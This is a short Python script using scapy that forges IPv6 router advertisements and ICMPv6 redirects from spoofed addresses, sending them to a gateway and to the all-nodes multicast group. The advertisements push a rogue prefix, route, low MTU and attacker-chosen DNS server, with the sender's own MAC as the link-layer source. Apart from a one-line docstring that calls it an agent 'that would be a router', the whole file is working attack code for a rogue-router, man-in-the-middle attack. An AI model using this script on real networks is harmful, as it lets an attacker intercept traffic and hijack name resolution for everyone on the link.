"""Router advertisements and redirects of an agent that would be a router.

Argument: the gateway's MAC address. Prints how many frames were sent.
"""
import sys
from scapy.all import (
    Ether, ICMPv6ND_RA, ICMPv6ND_Redirect, ICMPv6NDOptDstLLAddr, ICMPv6NDOptMTU,
    ICMPv6NDOptPrefixInfo, ICMPv6NDOptRDNSS, ICMPv6NDOptRouteInfo, ICMPv6NDOptSrcLLAddr, IPv6,
    conf, get_if_hwaddr,
)

GATEWAY_MAC, MINE = sys.argv[1], get_if_hwaddr("eth0")
GATEWAY6 = "2001:db8:a::1"


def advertisements():
    for prf in (0, 1):
        yield (ICMPv6ND_RA(routerlifetime=9000, prf=prf, chlim=7)
               / ICMPv6NDOptPrefixInfo(prefix="2001:db8:dead::", prefixlen=64, L=1, A=1)
               / ICMPv6NDOptRouteInfo(prefix="2001:db8:e::", plen=64, prf=prf, rtlifetime=9000)
               / ICMPv6NDOptMTU(mtu=1300)
               / ICMPv6NDOptRDNSS(dns=["2001:db8:a::10"], lifetime=9000)
               / ICMPv6NDOptSrcLLAddr(lladdr=MINE))


def redirects():
    yield (ICMPv6ND_Redirect(tgt="fe80::66", dst="2001:db8:77::7")
           / ICMPv6NDOptDstLLAddr(lladdr=MINE))


socket, count = conf.L2socket(iface="eth0"), 0
for source in ("fe80::bad", "2001:db8:a::10"):
    for payload in (*advertisements(), *redirects()):
        for mac, destination in ((GATEWAY_MAC, GATEWAY6), ("33:33:00:00:00:01", "ff02::1")):
            if destination == "ff02::1" and ICMPv6ND_Redirect in payload:
                continue
            socket.send(Ether(src=MINE, dst=mac)
                        / IPv6(src=source, dst=destination, hlim=255) / payload)
            count += 1
print(count)
